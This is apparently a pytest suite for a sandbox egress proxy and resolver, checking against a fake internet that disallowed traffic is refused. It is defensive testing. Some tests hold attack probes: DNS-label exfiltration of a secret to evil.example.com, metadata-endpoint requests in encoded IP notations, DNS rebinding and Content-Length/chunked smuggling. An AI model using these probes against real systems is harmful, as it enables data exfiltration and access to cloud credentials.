"""warren-egress against the fake internet: a sandbox-like netns whose TCP
is redirected to the proxy and whose port 53 goes to the resolver (see
netsetup.py). Refusals are asserted twice: the client failed, and the
fake internet saw nothing (no DNS query, no connection, no packet)."""
import json
import os
import socket
import struct
import subprocess
import time

import pytest

import egressctl
from egressctl import ENFORCE, LEARN, OPEN



def dig(sandbox, name, qtype="A", tcp=False, server=None):
    """Resolve through the sandbox's resolver (or server, redirected the
    same way); returns {rcode, an, len, tc}."""
    server = server or sandbox.net.resolver_ip
    fam = "socket.AF_INET6" if ":" in server else "socket.AF_INET"
    code = f"""
import socket, struct, random, sys, json
name, qtype, tcp = {name!r}, {qtype!r}, {tcp!r}
types = {{"A": 1, "AAAA": 28, "TXT": 16}}
q = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
for l in name.rstrip(".").split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\\0" + struct.pack(">HH", types[qtype], 1)
if tcp:
    s = socket.create_connection(({server!r}, 53), timeout=5)
    s.sendall(struct.pack(">H", len(q)) + q)
    buf = b""
    while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
        d = s.recv(65536)
        if not d: break
        buf += d
    a = buf[2:]
else:
    s = socket.socket({fam}, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, ({server!r}, 53))
    a = s.recv(65536)
assert a[:2] == q[:2], "id mismatch"
rcode = a[3] & 15
an = struct.unpack(">H", a[6:8])[0]
print(json.dumps({{"rcode": rcode, "an": an, "len": len(a), "tc": bool(a[2] & 2)}}))
"""
    r = sandbox.python(code)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def raw_connect(sandbox, ip, port, data=b"hello\n", family=4, read=True):
    """Connect from the sandbox to ip:port, send data, return what came back
    (or the error's name)."""
    fam = "socket.AF_INET" if family == 4 else "socket.AF_INET6"
    code = f"""
import socket
s = socket.socket({fam}, socket.SOCK_STREAM)
s.settimeout(5)
try:
    s.connect(({ip!r}, {port}))
    s.sendall({data!r})
    out = b""
    while {read!r}:
        d = s.recv(65536)
        if not d: break
        out += d
        if len(out) >= {len(data)}: break
    print("OK", out)
except Exception as e:
    print("ERR", type(e).__name__)
"""
    r = sandbox.python(code)
    return r.stdout.strip()


def assert_no_connection(bed, m):
    """Nothing but DNS reached the fake internet since m (for refusals of
    names the policy allows, whose DNS queries are expected)."""
    bed.settle()
    assert not bed.http_requests(since=m)
    assert not bed.connections("web", since=m)
    assert not bed.connections("tcp_echo", since=m)
    assert not bed.connections("udp_echo", since=m)


def bed_addrs(bed, name):
    return {bed.addr(name, 4), bed.addr(name, 6)}


def raw_http(sandbox, ip, port, req, family=4):
    """Send req (bytes) to ip:port from the sandbox; return the response
    head's status line ("" when the connection was reset/closed)."""
    out = raw_connect(sandbox, ip, port, req, family=family, read=True)
    if out.startswith("OK"):
        txt = eval(out[3:]).decode("latin-1")
        return txt.split("\r\n", 1)[0]
    return out


# --- allowed traffic -------------------------------------------------------

def test_allowed_https(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("https://github.com/echo")
    assert rc == 0 and code == 200, err
    assert json.loads(body)["sni"] == "github.com"
    fakenet.settle()
    reqs = fakenet.http_requests(since=m, host="github.com")
    assert len(reqs) == 1 and reqs[0]["tls"]
    # dialed from the host, not from the sandbox
    assert reqs[0]["client"].split(":")[0] != sandbox.net.addr4
    ev = ctl.wait_event(em, kind="tcp", sni="github.com")
    assert ev["verdict"] == "allow" and ev["sandbox"] == "sb-test"
    assert ev["dialed"] in bed_addrs(fakenet, "github.com") and ev["port"] == 443
    assert ev["bytes_up"] > 200 and ev["bytes_down"] > 500
    assert ev["source"] in (sandbox.net.addr4, sandbox.net.addr6)
    assert ev["rule"].startswith("allowed_hosts[0]")


def test_allowed_http(sandbox, fakenet, ctl):
    sandbox.enforce("example.test")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("http://example.test/echo?x=1")
    assert rc == 0 and code == 200, err
    assert json.loads(body)["host"] == "example.test"
    ev = ctl.wait_event(em, kind="tcp", host="example.test")
    assert ev["verdict"] == "allow" and ev["port"] == 80
    fakenet.settle()
    assert len(fakenet.http_requests(since=m, host="example.test")) == 1


def test_not_allowed_refused_and_never_resolved(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("https://pypi.org/simple/")
    assert rc != 0
    # the sandbox's resolver answered NXDOMAIN itself
    ev = ctl.wait_event(em, kind="dns", host="pypi.org")
    assert ev["verdict"] == "deny"
    fakenet.assert_nothing_seen(m)


def test_not_allowed_by_ip_with_sni_not_resolved(sandbox, fakenet, ctl):
    """Dialing pypi.org's address directly with its SNI: refused, and the
    proxy does not resolve a name no entry could allow."""
    sandbox.enforce("github.com")
    ip = fakenet.addr("pypi.org")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("https://pypi.org/", "--resolve", f"pypi.org:443:{ip}")
    assert rc != 0
    ev = ctl.wait_event(em, kind="tcp", sni="pypi.org")
    assert ev["verdict"] == "deny"
    fakenet.assert_nothing_seen(m)


def test_confinement_from_proc(egress, ctl):
    pid = egress.proc.pid
    status = open(f"/proc/{pid}/status").read()
    fields = dict(l.split(":", 1) for l in status.splitlines() if ":" in l)
    uid = int(fields["Uid"].split()[0])
    assert uid != 0 and all(int(x) == uid for x in fields["Uid"].split())
    assert all(int(x) != 0 for x in fields["Gid"].split())
    assert int(fields["CapEff"].strip(), 16) == 0
    assert int(fields["CapPrm"].strip(), 16) == 0
    assert int(fields["CapBnd"].strip(), 16) == 0
    assert fields["NoNewPrivs"].strip() == "1"
    assert fields["Seccomp"].strip() == "2"
    assert fields["Groups"].strip() == ""
    assert os.readlink(f"/proc/{pid}/root") == egress.root
    # every thread too
    for tid in os.listdir(f"/proc/{pid}/task"):
        st = open(f"/proc/{pid}/task/{tid}/status").read()
        assert "Seccomp:\t2" in st and "NoNewPrivs:\t1" in st
        assert "CapEff:\t0000000000000000" in st


# --- host patterns ---------------------------------------------------------

def test_wildcard_matches_subdomains_not_apex(sandbox, fakenet, ctl):
    sandbox.enforce("*.github.com")
    rc, code, body, err = sandbox.curl("https://api.github.com/echo")
    assert rc == 0 and code == 200, err
    rc, code, body, err = sandbox.curl("http://a.b.github.com/echo")
    assert rc == 0 and code == 200, err
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("https://github.com/echo")
    assert rc != 0
    fakenet.assert_nothing_seen(m)


def test_exact_does_not_match_subdomain(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("https://api.github.com/echo")
    assert rc != 0
    fakenet.assert_nothing_seen(m)


def test_case_and_trailing_dot(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("https://GitHub.COM./echo")
    assert rc == 0 and code == 200, err
    # plain HTTP with an odd-case Host and a trailing dot
    ip = fakenet.addr("pypi.org")
    st = raw_http(sandbox, ip, 80, b"GET /echo HTTP/1.1\r\nHost: GITHUB.com.\r\nConnection: close\r\n\r\n")
    assert st == "HTTP/1.1 200 OK", st
    fakenet.settle()
    reqs = [r for r in fakenet.http_requests(since=m) if r["hostname"].rstrip(".") == "github.com"]
    assert len(reqs) == 2, fakenet.http_requests(since=m)
    # the plain HTTP request went to github.com's address, not pypi.org's
    assert all(r["local"].split("]")[0].lstrip("[").rsplit(":", 1)[0] != ip for r in reqs)


def test_ip_literal_in_allowed_hosts_refused(sandbox, fakenet, ctl):
    ip = fakenet.addr("github.com")
    pol = egressctl.encode_policy([ip])
    r = ctl.policy_set("sb-test", [sandbox.net.addr4], ENFORCE, pol, check=False)
    assert r[1] == "result" and r[2] != 0 and "IP address" in r[3], r
    # and with the name allowed, the bare IP (no SNI, Host an IP) is refused
    sandbox.enforce("github.com")
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl(f"https://{ip}/echo", "-k")
    assert rc != 0
    rc, code, body, err = sandbox.curl(f"http://{ip}/echo")
    assert code == 403, (rc, code, body)
    fakenet.assert_nothing_seen(m)


def test_raw_tcp_to_resolved_but_unasked_ip_refused(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m, em = fakenet.mark(), ctl.mark()
    out = raw_connect(sandbox, fakenet.addr("github.com"), 7, b"\x00\x01binary")
    assert not out.startswith("OK b'\\x00"), out
    ev = ctl.wait_event(em, kind="tcp", verdict="deny")
    assert ev["port"] == 7 and ev["sni"] == "" and ev["host"] == ""
    fakenet.assert_nothing_seen(m)


def test_sni_allowed_host_to_other_ip_dials_checked_address(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    bad = fakenet.addr("pypi.org")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("https://github.com/echo", "--resolve", f"github.com:443:{bad}")
    assert rc == 0 and code == 200, err
    assert json.loads(body)["local"].split(":")[0] != bad
    ev = ctl.wait_event(em, kind="tcp", sni="github.com")
    assert ev["dialed"] in bed_addrs(fakenet, "github.com")
    fakenet.settle()
    assert not fakenet.http_requests(since=m, host="pypi.org")
    assert all(bad not in json.dumps(c) for c in fakenet.connections("web", since=m))


def test_host_mismatch_absolute_form_421(sandbox, fakenet, ctl):
    sandbox.enforce("github.com", "pypi.org")
    m = fakenet.mark()
    st = raw_http(sandbox, fakenet.addr("github.com"), 80,
                  b"GET http://github.com/echo HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
    assert st.startswith("HTTP/1.1 421"), st
    fakenet.assert_nothing_seen(m)


def test_host_of_unallowed_name_to_allowed_ip_refused(sandbox, fakenet, ctl):
    """Host names pypi.org while the connection went to github.com's
    address: decided on the name, refused, nothing dialed."""
    sandbox.enforce("github.com")
    m = fakenet.mark()
    st = raw_http(sandbox, fakenet.addr("github.com"), 80, b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
    assert st.startswith("HTTP/1.1 403"), st
    fakenet.assert_nothing_seen(m)


def test_trace_405(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("http://github.com/echo", "-X", "TRACE")
    assert code == 405, (rc, code, body, err)
    st = raw_http(sandbox, fakenet.addr("github.com"), 80, b"TRACK / HTTP/1.1\r\nHost: github.com\r\n\r\n")
    assert st.startswith("HTTP/1.1 405"), st
    assert_no_connection(fakenet, m)


def test_malformed_http_400(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    st = raw_http(sandbox, fakenet.addr("github.com"), 80,
                  b"GET / HTTP/1.1\r\nHost: github.com\r\nHost: pypi.org\r\n\r\n")
    assert st.startswith("HTTP/1.1 400"), st
    st = raw_http(sandbox, fakenet.addr("github.com"), 80,
                  b"GET / HTTP/1.1\r\nHost: github.com\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n")
    assert st.startswith("HTTP/1.1 400"), st
    fakenet.assert_nothing_seen(m)


def test_denied_routes_beat_allowed_hosts(sandbox, fakenet, ctl):
    sandbox.enforce("github.com", denied=[fakenet.addr("github.com", 4) + "/32",
                                          fakenet.addr("github.com", 6) + "/128"])
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("https://github.com/echo")
    assert rc != 0
    ev = ctl.wait_event(em, kind="tcp", sni="github.com")
    assert ev["verdict"] == "deny" and ev["rule"].startswith("denied_routes[")
    dns = ctl.events_since(em, kind="dns", host="github.com")
    assert dns and all(e["verdict"] == "allow" for e in dns)
    fakenet.settle()
    assert not fakenet.http_requests(since=m)
    assert not fakenet.connections("web", since=m)


@pytest.mark.parametrize("target", [
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
    "[::ffff:169.254.169.254]", "metadata.example.test", "mapped-meta.example.test",
])
def test_metadata_refused_in_every_notation(sandbox, fakenet, ctl, target):
    sandbox.set(ENFORCE, hosts=["*"])
    m, em = fakenet.mark(), ctl.mark()
    # as an HTTP Host (the connection itself goes to a bed address)
    st = raw_http(sandbox, fakenet.addr("example.test"), 80,
                  f"GET /latest/meta-data/ HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    assert st.startswith("HTTP/1.1 403"), st
    ev = ctl.wait_event(em, kind="tcp")
    assert ev["verdict"] == "deny" and "169.254" in ev["rule"] + (ev["dialed"] or ""), ev
    # and dialed directly by the sandbox (its default route is the host: redirected)
    out = raw_connect(sandbox, "169.254.169.254", 80, b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
    assert "200 OK" not in out
    if target.endswith(".test"):
        assert_no_connection(fakenet, m)    # the proxy resolved the name: DNS seen
    else:
        fakenet.assert_nothing_seen(m)


def test_dns_rebinding_refused(sandbox, fakenet, ctl):
    name = f"t{os.getpid()}{int(time.time() * 1000) % 100000}.rebind.example.test"
    sandbox.enforce("*.rebind.example.test")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl(f"http://{name}/echo")
    # the sandbox got the public first answer, the proxy's own resolution
    # the loopback one: refused
    assert code != 200, (rc, code, body)
    ev = ctl.wait_event(em, kind="tcp", host=name)
    assert ev["verdict"] == "deny" and "loopback" in ev["rule"] + ev["reason"], ev
    assert_no_connection(fakenet, m)


def test_private_answer_needs_allowed_routes(sandbox, fakenet, ctl):
    sandbox.enforce("*.example.test")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("http://mixed.example.test/echo")
    assert code != 200
    ev = ctl.wait_event(em, kind="tcp", host="mixed.example.test")
    assert ev["verdict"] == "deny" and "private" in ev["reason"], ev
    fakenet.settle()
    assert not fakenet.http_requests(since=m)


# --- DNS -------------------------------------------------------------------

def test_nxdomain_without_upstream_query(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m, em = fakenet.mark(), ctl.mark()
    assert dig(sandbox, "pypi.org")["rcode"] == 3
    assert dig(sandbox, "pypi.org", "AAAA", tcp=True)["rcode"] == 3
    ev = ctl.wait_event(em, kind="dns", host="pypi.org")
    assert ev["verdict"] == "deny" and ev["port"] in (1, 28) and ev["sandbox"] == "sb-test"
    fakenet.assert_nothing_seen(m)


def test_allowed_name_forwarded(sandbox, fakenet, ctl):
    sandbox.enforce("*.github.com")
    m = fakenet.mark()
    r = dig(sandbox, "api.github.com")
    assert r["rcode"] == 0 and r["an"] == 1
    r = dig(sandbox, "api.github.com", "AAAA", tcp=True)
    assert r["rcode"] == 0 and r["an"] == 1
    fakenet.settle()
    qs = fakenet.dns_queries(since=m, name="api.github.com")
    assert len(qs) == 2 and {q["proto"] for q in qs} == {"udp", "tcp"}


def test_concurrent_connections_share_one_lookup(sandbox, fakenet, ctl):
    """A burst of connections to one uncached name: each worker asks
    upstream once (an A and an AAAA query), not once per connection; every
    connection is still decided and served."""
    sandbox.enforce("*.wild.example.test")
    # answered 300 ms late: every connection arrives while the lookup is in flight
    name = f"burst{os.getpid()}x{time.monotonic_ns() % 10**9}.slow.wild.example.test"
    m, em = fakenet.mark(), ctl.mark()
    code = f"""
import socket, threading
N = 40
go = threading.Barrier(N)
out = []
addr = socket.getaddrinfo({name!r}, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
def one():
    go.wait()
    try:
        s = socket.create_connection(addr, timeout=10)
        s.sendall(b"GET /echo HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n")
        buf = b""
        while True:
            d = s.recv(65536)
            if not d: break
            buf += d
        out.append(buf.split(b"\\r\\n", 1)[0])
    except Exception as e:
        out.append(repr(e).encode())
ts = [threading.Thread(target=one) for _ in range(N)]
for t in ts: t.start()
for t in ts: t.join()
print(sum(1 for x in out if b" 200 " in x))
"""
    # the sandbox resolves the name once (through its resolver), then
    # every connection reaches the proxy with the name uncached there
    r = sandbox.python(code, timeout=60)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "40", r.stdout
    fakenet.settle()
    proxy_qs = fakenet.dns_queries(since=m, name=name)
    # the sandbox's own lookup (one A, maybe an AAAA, through the resolver)
    # plus at most one A and one AAAA per proxy worker
    assert len(proxy_qs) <= 2 + 2 * 2, proxy_qs
    deadline = time.time() + 10
    while len(ctl.events_since(em, kind="tcp", host=name)) < 40 and time.time() < deadline:
        time.sleep(0.05)
    evs = ctl.events_since(em, kind="tcp", host=name)
    assert len(evs) == 40 and all(e["verdict"] == "allow" for e in evs), evs


def test_long_label_exfiltration_blocked(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    secret = "s3cr3t" * 10
    for name in [f"{secret[:63]}.{'b' * 63}.evil.example.com", f"{secret[:60]}.github.com.evil.test",
                 f"{secret[:63]}.example.test"]:
        assert dig(sandbox, name, "TXT")["rcode"] == 3
    fakenet.assert_nothing_seen(m)


def test_open_mode_forwards_big_txt_over_tcp(sandbox, fakenet, ctl):
    sandbox.set(OPEN)
    r = dig(sandbox, "bigtxt.example.test", "TXT")
    assert r["tc"]
    r = dig(sandbox, "bigtxt.example.test", "TXT", tcp=True)
    assert r["rcode"] == 0 and r["len"] > 512 and not r["tc"]


# --- dropped by the host rules ---------------------------------------------

def test_udp_other_than_53_dropped(sandbox, fakenet, ctl):
    sandbox.set(OPEN)
    before = sandbox.net.drops()
    m = fakenet.mark()
    code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.sendto(b"ping", ({fakenet.addr("example.test")!r}, 9000))
try:
    print(s.recv(100))
except socket.timeout:
    print("timeout")
"""
    r = sandbox.python(code)
    assert r.stdout.strip() == "timeout", r
    assert sandbox.net.drops() > before
    fakenet.assert_nothing_seen(m)


# --- IPv6 --------------------------------------------------------------------

def test_ipv6_allowed_and_refused(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    em = ctl.mark()
    rc, code, body, err = sandbox.curl("https://github.com/echo", "-6")
    assert rc == 0 and code == 200, err
    ev = ctl.wait_event(em, kind="tcp", sni="github.com")
    assert ev["source"] == sandbox.net.addr6 and ev["verdict"] == "allow"
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("https://pypi.org/", "-6", "--resolve",
                                       f"pypi.org:443:[{fakenet.addr('pypi.org', 6)}]")
    assert rc != 0
    out = raw_connect(sandbox, fakenet.addr("github.com", 6), 7, b"raw6", family=6)
    assert not out.startswith("OK b'raw6"), out
    fakenet.assert_nothing_seen(m)


# --- modes -----------------------------------------------------------------

def test_open_mode_allows_and_logs(sandbox, fakenet, ctl):
    sandbox.set(OPEN)
    em = ctl.mark()
    rc, code, body, err = sandbox.curl("https://pypi.org/echo")
    assert rc == 0 and code == 200, err
    ev = ctl.wait_event(em, kind="tcp", sni="pypi.org")
    assert ev["verdict"] == "allow" and ev["mode"] == OPEN and ev["rule"] == "no policy"
    assert ctl.events_since(em, kind="dns", host="pypi.org")


def test_open_mode_still_denies_builtin(sandbox, fakenet, ctl):
    sandbox.set(OPEN)
    m, em = fakenet.mark(), ctl.mark()
    ip = fakenet.addr("example.test")
    # the sandbox dials a bed address; the proxy resolves the name itself
    rc, code, body, err = sandbox.curl("http://loopback.example.test/", "--resolve",
                                       f"loopback.example.test:80:{ip}")
    assert code != 200
    ev = ctl.wait_event(em, kind="tcp", host="loopback.example.test")
    assert ev["verdict"] == "deny" and "loopback" in ev["rule"] + ev["reason"], ev
    rc, code, body, err = sandbox.curl("http://private.example.test/", "--resolve",
                                       f"private.example.test:80:{ip}")
    assert code != 200
    fakenet.settle()
    assert not fakenet.http_requests(since=m)


def test_learn_mode_allows_and_records(sandbox, fakenet, ctl):
    sandbox.set(LEARN)
    em = ctl.mark()
    rc, code, body, err = sandbox.curl("https://files.pythonhosted.org/echo")
    assert rc == 0 and code == 200, err
    out = raw_connect(sandbox, fakenet.addr("example.test"), 7, b"learn")
    assert out == "OK b'learn'", out
    tcp = ctl.wait_event(em, kind="tcp", sni="files.pythonhosted.org")
    assert tcp["mode"] == LEARN and tcp["verdict"] == "allow"
    raw = ctl.wait_event(em, kind="tcp", port=7)
    assert raw["bytes_up"] == 5 and raw["bytes_down"] == 5
    dns = ctl.events_since(em, kind="dns", host="files.pythonhosted.org")
    assert dns and dns[0]["mode"] == LEARN


def test_allowed_routes_raw_tcp_by_port(sandbox, fakenet, ctl):
    net = f"198.18.{fakenet.slot}.0/24"
    sandbox.enforce(allowed=[(net, [(7, 7)])])
    out = raw_connect(sandbox, fakenet.addr("example.test"), 7, b"route-ok")
    assert out == "OK b'route-ok'", out
    m = fakenet.mark()
    out = raw_connect(sandbox, fakenet.addr("example.test"), 9000, b"route-no")
    assert not out.startswith("OK b'route-no"), out
    fakenet.assert_nothing_seen(m)


def test_unknown_source_refused(sandbox, fakenet, ctl):
    ctl.policy_del("sb-test")
    m, em = fakenet.mark(), ctl.mark()
    rc, code, body, err = sandbox.curl("http://198.18.%d.10/echo" % fakenet.slot)
    assert code != 200
    assert dig(sandbox, "github.com")["rcode"] == 5   # REFUSED
    ev = ctl.wait_event(em, kind="tcp", sandbox="")
    assert ev["verdict"] == "deny" and "unknown source" in ev["reason"]
    fakenet.assert_nothing_seen(m)


def test_http_body_and_large_download(sandbox, fakenet, ctl):
    sandbox.enforce("example.test")
    em = ctl.mark()
    n = 64 << 20
    r = sandbox.run(["sh", "-c", f"curl -sS --max-time 30 http://example.test/bytes/{n} | wc -c"])
    assert r.stdout.strip() == str(n), r.stderr
    ev = ctl.wait_event(em, kind="tcp", host="example.test")
    assert ev["bytes_down"] > n
    r = sandbox.run(["sh", "-c", "head -c 5000000 /dev/zero | curl -sS --max-time 30 --data-binary @- "
                     "'http://example.test/sink?sha256=1'"])
    # (a one-off empty answer seen once in CI: say what curl and the proxy saw)
    assert r.returncode == 0 and r.stdout, (r.returncode, r.stderr, ctl.events_since(em))
    assert json.loads(r.stdout)["bytes"] == 5000000, r.stderr


def test_http_uploads_never_stall(sandbox, fakenet, ctl):
    """Forty 5 MB uploads, some to a server that reads nothing for a while
    (the bytes pile up in every buffer on the way, then drain at once).
    The proxy's up pump could run out of rounds with input read but not
    yet framed and then arm no poll: the upload stalled for good (seen in
    CI as a 30 s curl timeout; here 1-5 of 40 uploads stalled before the
    fix, 0 of 160 after)."""
    sandbox.enforce("example.test")
    stalled = []
    for i in range(40):
        delay = (0, 0, 100, 300)[i % 4]
        r = sandbox.run(["sh", "-c", "head -c 5000000 /dev/zero | curl -sS --max-time 10 "
                         f"--data-binary @- 'http://example.test/sink?delay_ms={delay}'"])
        if r.returncode != 0 or json.loads(r.stdout or "{}").get("bytes") != 5000000:
            stalled.append((i, delay, r.returncode, r.stderr.strip()))
    assert not stalled, stalled


def test_concurrent_connections(sandbox, fakenet, ctl):
    sandbox.enforce("example.test", "github.com")
    r = sandbox.run(["sh", "-c", "for i in $(seq 40); do curl -s -o /dev/null -w '%{http_code}\\n' "
                     "--max-time 20 https://github.com/bytes/100000 & done; wait"], timeout=60)
    codes = r.stdout.split()
    assert codes.count("200") == 40, r.stdout


# --- restart and fail closed ---------------------------------------------------

def test_kill9_mid_transfer_fails_closed_and_restarts(egress, sandbox, fakenet, ctl):
    sandbox.enforce("example.test")
    p = sandbox.net.popen(["curl", "-sS", "-o", "/dev/null", "--max-time", "60",
                           "http://example.test/bytes/%d" % (8 << 30), "--limit-rate", "50M"],
                          env=sandbox.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    time.sleep(1.0)
    egress.kill9()
    rc = p.wait(30)
    assert rc != 0, "the transfer must fail when the proxy dies"
    # while it is down: nothing reaches the internet
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("http://example.test/echo", "--max-time", "2")
    assert code != 200
    fakenet.assert_nothing_seen(m)
    # restarted with the same sockets: decided again (the policy too is re-sent)
    egress.start()
    sandbox.ctl = egress.ctl
    sandbox.enforce("example.test")
    rc, code, body, err = sandbox.curl("http://example.test/echo")
    assert rc == 0 and code == 200, err
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("https://pypi.org/")
    assert rc != 0
    fakenet.assert_nothing_seen(m)


def test_control_socket_close_exits(egress, sandbox, fakenet, ctl):
    proc = egress.proc
    egress.expect_exit = True
    egress.ctl.close()
    assert proc.wait(5) == 0
    m = fakenet.mark()
    rc, code, body, err = sandbox.curl("http://example.test/echo", "--max-time", "2")
    assert code != 200
    fakenet.assert_nothing_seen(m)
    egress.start()


# --- the control protocol, from warrend's side ----------------------------------

def _raw_request(ctl, data, mid):
    ctl.send_raw(data)
    return ctl.wait_reply(mid)


def test_ctl_ping_pong_counts(sandbox, ctl):
    sandbox.set(OPEN)
    r = ctl.ping()
    assert r[1] == "pong" and r[2] >= 1 and r[4] == 0   # sandboxes, conns, dropped


def test_ctl_unknown_type_refused(ctl):
    H = egressctl.HDR
    r = _raw_request(ctl, H.pack(egressctl.MAGIC, 0x42, 0, 0, 777), 777)
    assert r[1] == "result" and r[2] == 95, r          # EOPNOTSUPP
    r = _raw_request(ctl, H.pack(egressctl.MAGIC, egressctl.READY, 0, 0, 778), 778)
    assert r[2] == 95, r                                # a reply type is no request


def test_ctl_header_checks(ctl):
    H = egressctl.HDR
    r = _raw_request(ctl, H.pack(egressctl.MAGIC, egressctl.PING, 0, 1, 801), 801)
    assert r[2] == 74 and "reserved" in r[3], r         # EBADMSG
    r = _raw_request(ctl, H.pack(egressctl.MAGIC, egressctl.PING, 5, 0, 802), 802)
    assert r[2] == 74, r                                # length mismatch
    r = _raw_request(ctl, H.pack(0x12345678, egressctl.PING, 0, 0, 803), 803)
    assert r[2] == 74, r                                # magic
    r = _raw_request(ctl, H.pack(egressctl.MAGIC, egressctl.PING, 1, 0, 804) + b"x", 804)
    assert r[2] == 74, r                                # PING with a payload
    assert ctl.ping()[1] == "pong"                      # and the process lives on


def test_ctl_policy_set_validation(sandbox, ctl):
    a = [sandbox.net.addr4]
    pol = egressctl.encode_policy(["github.com"])
    for sid in ["", "a" * 64, "bad id", "x/y"]:
        r = ctl.policy_set(sid, a, ENFORCE, pol, check=False)
        assert r[2] != 0, (sid, r)
    assert ctl.policy_set("ok", a, OPEN, pol, check=False)[2] != 0      # policy without ENFORCE
    assert ctl.policy_set("ok", a, ENFORCE, None, check=False)[2] != 0  # ENFORCE without policy
    assert ctl.policy_set("ok", [], OPEN, None, check=False)[2] != 0    # no address
    assert ctl.policy_set("ok", a * 2, OPEN, None, check=False)[2] != 0  # repeated address
    assert ctl.policy_set("ok", a, 9, None, check=False)[2] != 0        # unknown mode
    bad = egressctl.encode_policy(["*.com"])
    r = ctl.policy_set("ok", a, ENFORCE, bad, check=False)
    assert r[2] == 74 and "*.com" in r[3], r
    # reserved bytes of an address
    payload = egressctl.SET.pack(b"ok", OPEN, 1, 0, 0) + b"\x04\x01\x00\x00" + bytes(16)
    r = ctl.request(egressctl.POLICY_SET, payload)
    assert r[2] == 74, r
    # trailing garbage after the sandbox id's NUL
    payload = egressctl.SET.pack(b"ok\0x", OPEN, 1, 0, 0) + egressctl.encode_addr(sandbox.net.addr4)
    assert ctl.request(egressctl.POLICY_SET, payload)[2] == 74


def test_ctl_address_owned_by_one_sandbox(sandbox, ctl):
    sandbox.set(OPEN)
    r = ctl.policy_set("other", [sandbox.net.addr4], OPEN, check=False)
    assert r[2] == 17 and "sb-test" in r[3], r          # EEXIST
    assert ctl.policy_del("nope")[2] == 2               # ENOENT


def test_ctl_policy_replace_applies_to_new_connections(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    assert sandbox.curl("https://github.com/echo")[1] == 200
    sandbox.enforce("pypi.org")
    m = fakenet.mark()
    assert sandbox.curl("https://github.com/echo")[0] != 0
    fakenet.assert_nothing_seen(m)
    assert sandbox.curl("https://pypi.org/echo")[1] == 200


def test_events_fields_for_refused_and_dns(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    em = ctl.mark()
    t0 = time.time_ns()
    sandbox.curl("https://github.com/echo")
    sandbox.curl("http://github.com/echo", "-X", "TRACE")
    # each connection's event is sent when the proxy closes it, which may be
    # just after curl has its answer and exits: wait for both
    ctl.wait_event(em, kind="tcp", verdict="allow")
    ctl.wait_event(em, kind="tcp", verdict="deny")
    evs = ctl.events_since(em)
    dns = [e for e in evs if e["kind"] == "dns"]
    assert dns and all(e["host"] == "github.com" and e["verdict"] == "allow" for e in dns)
    assert {e["port"] for e in dns} <= {1, 28}
    tcp = [e for e in evs if e["kind"] == "tcp"]
    ok = [e for e in tcp if e["verdict"] == "allow"]
    no = [e for e in tcp if e["verdict"] == "deny"]
    assert len(ok) == 1 and len(no) == 1, tcp
    assert no[0]["host"] == "github.com" and "TRACE" in no[0]["reason"] and no[0]["bytes_up"] == 0
    for e in evs:
        assert e["reserved"] == (0, 0) and e["sandbox"] == "sb-test" and e["time_ns"] >= t0
    seqs = [e["seq"] for e in evs]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)


# --- first bytes ----------------------------------------------------------------

def test_server_first_protocol_decided_as_raw(sandbox, fakenet, ctl):
    """A client that sends nothing (SSH, SMTP: the server speaks first) is
    decided by address after --first-byte-ms, then relayed."""
    sandbox.enforce(allowed=[(f"198.18.{fakenet.slot}.0/24", [(7, 7)])])
    em = ctl.mark()
    code = f"""
import socket, time
s = socket.create_connection(({fakenet.addr("example.test")!r}, 7), timeout=5)
time.sleep(1.0)
s.sendall(b"late")
print(s.recv(10))
"""
    r = sandbox.python(code)
    assert r.stdout.strip() == "b'late'", r
    ev = ctl.wait_event(em, kind="tcp", port=7)
    assert ev["verdict"] == "allow" and ev["rule"].startswith("allowed_routes[0]")


